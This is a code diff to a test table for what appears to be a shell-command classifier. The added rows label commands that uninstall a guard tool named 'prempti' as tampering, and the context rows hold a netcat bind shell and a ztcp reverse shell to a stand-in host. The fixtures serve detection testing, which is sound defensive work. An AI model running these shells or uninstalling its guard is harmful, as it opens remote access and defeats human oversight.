@@ -26,6 +26,13 @@ const areas: Readonly<Record<string, readonly Row[]>> = {
     ],
     [`git log --grep="push --force"`, []],
   ],
+  guard: [
+    [`pnpm remove --global prempti`, ["guard:tamper"]],
+    [`npm un -g @acme/prempti@latest`, ["guard:tamper"]],
+    [`sudo apt-get purge -y prempti`, ["privilege:sudo", "guard:tamper"]],
+    [`npm uninstall -g prempti-docs`, []],
+    [`npm install prempti`, []],
+  ],
   network: [
     [`nc -lvp 9000 -e /bin/bash`, ["net:bind-shell"]],
     [`ztcp h.example 9000; bash <&$REPLY >&$REPLY`, ["net:reverse-shell", "net:send"]],
